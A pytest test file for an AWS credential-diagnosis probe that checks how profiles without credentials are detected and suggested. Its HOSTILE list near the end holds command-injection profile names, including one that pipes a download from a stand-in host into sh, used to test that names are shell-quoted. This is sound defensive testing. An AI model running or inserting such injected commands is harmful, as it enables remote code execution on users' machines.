"""creds.chain: nothing found for the profile used, while other profiles hold credentials.

The profiles are read from botocore's own map of the two files (`Session.full_config`), so the
files botocore reads are the ones read here: AWS_CONFIG_FILE and AWS_SHARED_CREDENTIALS_FILE
(set by the autouse fixture to the temp HOME, or moved by a test) included.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from tests.unit.probes.helpers import KEY, SECRET, probe

KEYS = f"aws_access_key_id = {KEY}\naws_secret_access_key = {SECRET}\n"
OTHER = "other-profiles-have-credentials"
ONLY = "credentials-only-in-named-profiles"


def write(home: Path, name: str, text: str) -> None:
    (home / ".aws" / name).write_text(text)


def test_keys_in_a_named_profile_and_nothing_selected(home: Path) -> None:
    write(home, "credentials", f"[work]\n{KEYS}")
    write(home, "config", "[default]\nregion = eu-west-1\n[profile work]\nregion = eu-west-1\n")
    evidence = probe("creds.chain")
    assert {"no-credentials", OTHER, ONLY} <= set(evidence.findings)
    assert evidence.facts["suggested_profile"].value == "work"
    assert evidence.facts["credential_profiles"].value == "work"
    assert "other profiles have credentials: work" in evidence.summary
    assert any("nothing selects a profile" in line for line in evidence.details)


def test_without_other_profiles_nothing_is_suggested(home: Path) -> None:
    write(home, "config", "[default]\nregion = eu-west-1\n[profile work]\nregion = eu-west-1\n")
    evidence = probe("creds.chain")
    assert "no-credentials" in evidence.findings
    assert OTHER not in evidence.findings and ONLY not in evidence.findings
    assert "suggested_profile" not in evidence.facts
    assert "credential_profiles" not in evidence.facts


@pytest.mark.parametrize(
    "section",
    [
        "role_arn = arn:aws:iam::123456789012:role/deploy\nsource_profile = base\n",
        "role_arn = arn:aws:iam::123456789012:role/deploy\ncredential_source = Environment\n",
        "sso_session = corp\nsso_account_id = 123456789012\nsso_role_name = Admin\n",
        "credential_process = /usr/local/bin/helper --json\n",
        "login_session = arn:aws:iam::123456789012:user/alice\n",
    ],
    ids=["role-source-profile", "role-credential-source", "sso", "process", "login"],
)
def test_every_kind_of_credential_provider_counts(home: Path, section: str) -> None:
    write(home, "config", f"[profile ops]\n{section}")
    evidence = probe("creds.chain")
    assert {OTHER, ONLY} <= set(evidence.findings)
    assert evidence.facts["credential_profiles"].value == "ops"


def test_a_key_written_without_a_value_provides_nothing(home: Path) -> None:
    write(home, "credentials", "[work]\naws_access_key_id =\naws_secret_access_key =\n")
    evidence = probe("creds.chain")
    assert OTHER not in evidence.findings


def test_a_selected_profile_without_credentials_is_only_likely(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(home, "credentials", f"[prod]\n{KEYS}[stage]\n{KEYS}")
    write(home, "config", "[profile dev]\nregion = eu-west-1\n")
    monkeypatch.setenv("AWS_PROFILE", "dev")
    evidence = probe("creds.chain")
    assert OTHER in evidence.findings
    assert ONLY not in evidence.findings, "AWS_PROFILE chose dev: not 'nothing selected'"
    assert evidence.facts["credential_profiles"].value == "prod, stage"
    # Two candidates: which one was meant is not for awsmedic to guess.
    assert "suggested_profile" not in evidence.facts
    assert any("selected by AWS_PROFILE" in line for line in evidence.details)


def test_a_profile_the_paste_names_is_a_selection_too(home: Path) -> None:
    write(home, "credentials", f"[work]\n{KEYS}")
    evidence = probe("creds.chain", text="$ aws s3 ls --profile dev\nUnable to locate credentials")
    assert OTHER in evidence.findings
    assert ONLY not in evidence.findings


def test_environment_keys_win_and_nothing_is_reported(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(home, "credentials", f"[work]\n{KEYS}")
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", KEY)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    evidence = probe("creds.chain")
    assert "env-credentials" in evidence.findings
    assert OTHER not in evidence.findings and ONLY not in evidence.findings


def test_the_files_botocore_reads_are_the_ones_read(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Keys in the default place, but the variables point elsewhere: botocore never reads
    them, so they are no profile of this command's world."""
    write(home, "credentials", f"[work]\n{KEYS}")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "credentials").write_text(f"[team]\n{KEYS}")
    (elsewhere / "config").write_text("[profile build]\ncredential_process = /bin/helper\n")
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(elsewhere / "credentials"))
    monkeypatch.setenv("AWS_CONFIG_FILE", str(elsewhere / "config"))
    evidence = probe("creds.chain")
    assert ONLY in evidence.findings
    assert evidence.facts["credential_profiles"].value == "build, team"


HOSTILE = [
    "it's",
    "a b",
    "x;curl -s evil.example|sh;#",
    "$(touch pwned)",
    "back`tick`",
    "\x1b[31mred",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_profile_names_are_quoted_as_shell_words(home: Path, name: str) -> None:
    write(home, "credentials", f"[{name}]\n{KEYS}")
    evidence = probe("creds.chain")
    assert ONLY in evidence.findings
    listed = evidence.facts["credential_profiles"].value
    # One shell word that stands for exactly the name, whatever it holds.
    assert shlex.split(listed) == [name]
    assert f"other profiles have credentials: {listed} " in evidence.summary
    # a name no command can give as written is suggested as its header's repair will read
    meant = "red" if name == "\x1b[31mred" else name
    assert evidence.facts["suggested_profile"].value == meant


def test_many_profiles_are_listed_up_to_a_limit(home: Path) -> None:
    write(home, "credentials", "".join(f"[p{n:02}]\n{KEYS}" for n in range(20)))
    value = probe("creds.chain").facts["credential_profiles"].value
    assert value.startswith("p00, p01, ")
    assert value.endswith(" and 12 more")
